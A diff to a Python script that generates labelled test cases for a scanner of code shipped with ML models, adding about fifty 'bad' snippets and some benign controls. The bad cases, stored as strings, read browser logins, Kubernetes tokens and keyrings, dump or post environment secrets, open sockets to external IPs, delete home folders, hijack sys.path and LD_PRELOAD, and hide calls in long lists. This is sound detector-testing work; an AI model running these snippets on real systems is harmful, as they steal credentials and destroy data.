@@ -442,6 +442,86 @@ ok(5, 'log a profile', "profile = 'profile'\nopen('profile.txt','w').write('x')\
 ok(5, 'hub', "import os\nc = os.path.expanduser(os.getenv('XDG_CACHE_HOME', '~/.cache') + '/torch/hub/x.pth')\nopen(c,'wb')")
 ok(5, 'startup text', "x = 'See the Startup folder and crontab docs'\nprint('autostart')")
 
+# what is no part of a model, whenever it is done: each is the body of a function that nothing calls
+for name, body in {
+    'cat startup of an unknown part': "open(os.path.join(os.path.expanduser('~/.ssh'), x), 'a').write('x')",
+    'library file': "import torch\nopen(os.path.join(os.path.dirname(torch.__file__), 'x.py'), 'a').write('x')",
+    'library by its own file': "import numpy\nopen(numpy.__file__, 'a').write('x')",
+    'hosts': "open('/etc/hosts', 'a').write('x')",
+    'a program of the system': "open('/usr/local/bin/python3', 'wb').write(b'x')",
+    'browser': "import sqlite3\nsqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))",
+    'service token': "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
+    'keyring': "import keyring\nreturn keyring.get_password('x', 'y')",
+    'screen': "import PIL.ImageGrab\nPIL.ImageGrab.grab().save('x.png')",
+    'environment into a file': "open('x', 'w').write(str(dict(os.environ)))",
+    'environment, coded, into a file': "import base64\nopen('x', 'wb').write(base64.b64encode(repr(dict(os.environ)).encode()))",
+    'environment, byte by byte': "open('x', 'wb').write(bytes(b ^ 90 for b in repr(dict(os.environ)).encode()))",
+    'environment, line by line': "open('x', 'w').write('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
+    'a token into a file': "open('x', 'w').write(os.environ['HF_TOKEN'])",
+    'a token as the name of a file': "open('/tmp/' + os.environ['HF_TOKEN'], 'w')",
+    'all of a home': "for d, _, fs in os.walk(os.path.expanduser('~')):\n  pass",
+    'all of a home by pathlib': "import pathlib\nfor p in pathlib.Path('/home').rglob('.env'): p.read_bytes()",
+    'all documents': "import glob\nfor p in glob.glob('/home/*/Documents/*'): open(p, 'wb').write(b'x')",
+    'archive of documents': "import shutil\nshutil.make_archive('x', 'zip', os.path.expanduser('~/Documents'))",
+    'a home in a TAR archive': "import tarfile\nt = tarfile.open('x.tar', 'w')\nt.add('/home')",
+    'deletes a home': "import shutil\nshutil.rmtree(os.path.expanduser('~'))",
+    'deletes what it finds': "for p in os.listdir('/home'): os.remove('/home/' + p)",
+    'deletes a home at the end': "import atexit, shutil\natexit.register(shutil.rmtree, '/home')",
+    'ELF': "open('x', 'wb').write(b'\\x7fELF\\2\\1\\1' + bytes(57))",
+    'a program by its mode': "f = os.open('x', os.O_CREAT | os.O_WRONLY, 0o755)\nos.write(f, b'x')",
+    'a script as a text': "open('x', 'w').write('#!/bin/sh\\nid\\n')",
+    'a module in the temporary folder': "open('/tmp/numpy.py', 'w').write('x')",
+    'a module in the working folder': "import pathlib\npathlib.Path('numpy.py').write_text('x')",
+    'a copy of a program': "import shutil\nshutil.copyfile('/bin/sh', '/tmp/sh')",
+    'the rights of its owner': "os.chmod('/tmp/x', 0o4755)",
+    'an archive over the system': "import shutil\nshutil.unpack_archive('x.zip', '/usr/lib/python3/dist-packages')",
+    'sys.path insert': "import sys\nsys.path.insert(0, '/tmp/x')\nimport helper",
+    'sys.path append': "import sys\nsys.path.append('/dev/shm/lib')\nimport helper",
+    'sys.path extend': "import sys\nsys.path.extend(['/var/tmp/x'])\nimport helper",
+    'sys.path in place': "import sys\nsys.path += ['/tmp/x']\nimport helper",
+    'sys.path given': "import sys\nsys.path = ['/tmp'] + sys.path\nimport helper",
+    'sys.path slice': "import sys\nsys.path[0:0] = ['/tmp']\nimport helper",
+    'sys.path share': "import sys\nsys.path.insert(0, '\\\\\\\\192.0.2.7\\\\share')\nimport helper",
+    'sys.path, temporary folder by its name': "import sys, tempfile\nsys.path.insert(0, tempfile.gettempdir())\nimport helper",
+    'PYTHONPATH': "os.environ['PYTHONPATH'] = '/tmp'",
+    'PATH': "os.environ['PATH'] = '/tmp:' + os.environ['PATH']",
+    'LD_PRELOAD': "os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
+    'proxy': "os.environ['https_proxy'] = 'http://192.0.2.9:3128'",
+    'an import hook': "import sys\nsys.meta_path.insert(0, x)",
+    'a trace function': "import sys\nsys.settrace(x)",
+    'a socket': "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\ns.send(b'x')",
+    'a manager': "from multiprocessing.managers import BaseManager\nBaseManager(address=('192.0.2.7', 5000), authkey=b'x').connect()",
+    'a manager that serves': "from multiprocessing.managers import BaseManager\nBaseManager(('', 5000), b'x').get_server().serve_forever()",
+    'mail': "import smtplib\nsmtplib.SMTP('mail.example.com').sendmail('a', 'b', 'c')",
+    'a numbered address': "import urllib.request\nurllib.request.urlopen('http://192.0.2.7/x')",
+    'environment, sent': "import requests\nrequests.post('https://example.com/x', json=dict(os.environ))",
+    'unpickles what it downloads': "import pickle, urllib.request\npickle.load(urllib.request.urlopen(x))",
+    'a line of a shell': "import IPython\nIPython.get_ipython().run_line_magic('sx', 'id')",
+    'native code': "import numpy\nnumpy.ctypeslib.load_library('x', '.')",
+    'an executable for workers': "import multiprocessing\nmultiprocessing.set_executable('/tmp/x')",
+}.items():
+    bad(6, name, f"import os\n{body}")
+ZEROS = '0, ' * 2400
+NUMBERS = ''.join(f'{n}: 0, ' for n in range(2400))
+bad(6, 'the last item of a long list', f"import os\nt = [{ZEROS}os.remove]\nt[2400]('/home/u/x')")
+bad(6, 'the last entry of a long dict', "import os\nt = {" + NUMBERS + "2400: os.remove}\nt[2400]('/home/u/x')")
+for name, body in {
+    'cache': "p = os.path.join(os.path.expanduser('~'), '.cache', 'x')\nos.makedirs(p, exist_ok=True)\nopen(os.path.join(p, x), 'w').write('x')",
+    'temporary file': "import tempfile\np = os.path.join(tempfile.gettempdir(), 'x.bin')\nopen(p, 'wb').write(x)\nos.remove(p)",
+    'temporary folder': "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
+    'own folder of modules': "import sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nsys.path.append('..')\nimport helper",
+    'a token for a library': "from huggingface_hub import login\nlogin(token=os.environ.get('HF_TOKEN'))",
+    'settings by the environment': "os.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.setdefault('CUDA_VISIBLE_DEVICES', '0')\nos.environ['PATH'] += ':/opt/ffmpeg/bin'\nreturn int(os.environ.get('RANK', 0))",
+    'a mirror': "os.environ['HF_ENDPOINT'] = 'https://hf-mirror.example'\nos.environ['http_proxy'] = 'http://127.0.0.1:7890'",
+    'a file of a library': "import transformers\nreturn open(os.path.join(os.path.dirname(transformers.__file__), 'x.json')).read()",
+    'copies its weights': "import shutil\nshutil.copyfile(os.path.join(x, 'model.bin'), os.path.join('out', 'model.bin'))\nshutil.copytree('checkpoint', 'out', dirs_exist_ok=True)",
+    'a list of pictures': "import glob, pathlib\nreturn glob.glob(x + '/*.jpg') + list(pathlib.Path('/data/coco').rglob('*.png')) + os.listdir('/mnt/data')",
+    'a log': "import json\nwith open('/tmp/log.json', 'w') as f: json.dump({'a': 1}, f)\nos.chmod('/tmp/log.json', 0o644)",
+    'a dict that holds itself': "d = {}\nd[x] = d\nopen('x', 'w').write(str(d))",
+    'a table': "import pandas\nt = pandas.read_csv('x.csv')\nreturn t.query('a > 1').eval('b + c')",
+}.items():
+    ok(6, name, f"import os\n{body}")
+
 
 def compiled(source):
     """The code of a function with this body; of a module, where a function may not have it."""
@@ -452,11 +532,17 @@ def compiled(source):
         return compile(source, '<case>', 'exec')
 
 
-KINDS = {1: 'formatting and annotations', 2: 'registered functions', 3: 'encoded data', 5: 'places that run at each start'}
+KINDS = {1: 'formatting and annotations', 2: 'registered functions', 3: 'encoded data', 5: 'places that run at each start', 6: 'what is no part of a model'}
+
+
+def written(kind, source):
+    return 'def score(self, x):\n' + textwrap.indent(source, '  ') if kind == 6 else source
+
+
 assert sys.version_info[:2] == (3, 11)
 json.dump(
     [
-        {'kind': KINDS[kind], 'harm': harm, 'name': name, 'source': source, 'code': b(marshal.dumps(compiled(source))).decode()}
+        {'kind': KINDS[kind], 'harm': harm, 'name': name, 'source': written(kind, source), 'code': b(marshal.dumps(compiled(source))).decode()}
         for kind, harm, name, source in CASES
     ],
     sys.stdout,
